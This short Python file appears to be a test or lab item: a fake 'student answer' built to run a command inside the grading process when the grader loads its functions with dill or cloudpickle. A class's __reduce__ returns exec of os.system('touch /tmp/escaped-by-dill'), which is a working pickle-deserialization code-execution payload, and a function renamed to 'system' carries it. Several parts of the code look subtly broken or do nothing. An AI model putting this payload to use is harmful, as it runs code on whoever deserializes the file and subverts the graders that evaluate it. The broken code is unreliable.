"""Answers with functions that carry their code with them, through dill, cloudpickle and marshal.

naive: a command run in the grading process, as the host loads the student's functions with dill.
lab: functions
answers: own
reached: code: True
"""
# %%
import marshal, os, types
class Code:
    def __reduce__(self):
        return exec, ("import os; os.system('touch /tmp/escaped-by-dill')",)
def power(n):
    def made(x, poison=Code()):
        return poison
    made.__reduce__ = made.__reduce_ex__ = lambda *args: Code().__reduce__()
    made.__code__ = made.__code__.replace(co_name="system")
    return made
def each(f, xs):
    return [types.FunctionType(f.__code__, {"__builtins__": {}}, closure=f.__closure__) if hasattr(f, "__code__") else power(0)]
print("code:", len(marshal.dumps(power(1).__code__)) > 50)
